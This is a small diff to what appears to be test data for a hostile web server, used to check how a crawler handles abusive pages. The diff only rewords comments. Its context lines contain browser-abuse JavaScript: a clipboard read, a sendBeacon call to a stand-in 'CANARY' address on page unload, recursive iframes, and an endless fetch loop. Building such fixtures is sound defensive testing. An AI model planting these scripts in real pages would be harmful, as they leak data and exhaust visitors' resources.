@@ -1,6 +1,6 @@
-"""Pages that abuse a browser, as data for hostile_server.py: path → (what a good crawl makes of it, HTML).
+"""Pages that abuse a browser, as data for hostile_server.py: path → (expected behaviour of a good crawl, HTML).
 
-CANARY stands for the address, with its port, that no crawl may contact; it counts TCP and UDP.
+CANARY stands for the forbidden address, with its port; it counts TCP and UDP.
 """
 
 WORDS = "These words come by a script and are the whole text of the page, which tells of ships, of harbours and of the tide. "
@@ -47,7 +47,7 @@ navigator.clipboard?.readText().then(t => app.append('LEAKED'), () => 0); naviga
     "/js/unload": ("it does not keep its tab", page("onbeforeunload = e => { e.preventDefault(); navigator.sendBeacon('http://CANARY/'); return 'stay' }; setTimeout(() => location = '/js/render?left')")),
     "/js/frames": ("its frames are bounded", page("const f = document.createElement('iframe'); f.src = location.pathname + '?' + Math.random(); document.body.append(f)", "<meta name=robots content=nofollow>")),
 }
-# what the pages load: path → (media type, body)
+# resources of the pages: path → (media type, body)
 PARTS = {
     "/js/_bytes": ("application/octet-stream", b"x" * (1 << 20)),
     "/js/_frame": ("text/html", b"<script>(async () => { for (;;) await (await fetch('/js/_bytes')).text() })()</script>"),
